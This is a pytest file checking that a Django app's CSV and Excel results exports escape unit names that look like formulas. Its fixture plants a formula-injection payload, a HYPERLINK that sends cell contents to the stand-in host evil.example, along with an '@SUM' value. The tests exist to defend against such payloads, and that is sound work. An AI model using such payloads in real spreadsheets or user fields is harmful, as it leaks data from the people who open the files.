"""Downloads of results are safe to open: a unit name that starts like a formula is written as
text in the API's CSV and in the results workbook (chiso.core.safe_cells); scores and ranks,
negative ones included, stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from chiso.core.safe_cells import csv_value, is_formula_like
from chiso.results.reports import results_workbook

pytestmark = pytest.mark.django_db
API = "/api/v1"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def poisoned(sample):
    unit = sample.units["S-A"]
    unit.name_vi = LEAK
    unit.save(update_fields=["name_vi"])
    unit = sample.units["S-B"]
    unit.name_vi = "@SUM(1+1)"
    unit.save(update_fields=["name_vi"])
    return sample


def test_the_results_csv_puts_formula_like_names_behind_an_apostrophe(client, poisoned):
    response = client.get(f"{API}/runs/{poisoned.ddci_2023.pk}/results.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r["unit_name"] for r in rows}
    assert "'" + LEAK in names and "'@SUM(1+1)" in names and LEAK not in names
    assert all(float(r["value"]) == float(r["value"]) for r in rows if r["value"])  # scores parse as numbers
    assert not [c for r in rows for c in r.values() if c[:1] in ("=", "+", "@")]


def test_the_results_workbook_writes_formula_like_names_as_text(poisoned):
    book = load_workbook(io.BytesIO(results_workbook([poisoned.ddci_2023])))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in {c.value for c in cells if c.data_type == "s"}
    assert any(c.data_type == "n" for c in cells)


def test_a_negative_number_stays_a_number():
    assert csv_value(-2.5) == -2.5 and csv_value("-2.5") == "-2.5" and csv_value("-1,5") == "-1,5"
    assert not is_formula_like("-3") and is_formula_like("-3+A1")
